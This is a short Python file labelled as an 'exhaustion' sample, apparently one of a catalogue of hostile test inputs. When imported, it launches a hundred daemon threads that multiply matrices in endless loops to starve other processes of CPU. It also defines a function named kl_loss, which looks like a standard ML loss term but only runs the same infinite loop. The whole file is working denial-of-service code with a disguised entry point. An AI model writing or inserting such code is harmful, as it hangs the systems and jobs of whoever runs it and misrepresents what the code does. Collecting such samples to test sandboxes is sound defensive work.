# tries: a hundred threads that compute, so that others wait
# family: exhaustion
import threading
import numpy


def spin():
    block = numpy.ones((300, 300))
    while True:
        block @ block


for _ in range(100):
    threading.Thread(target=spin, daemon=True).start()


def kl_loss(mean, log_var):
    spin()
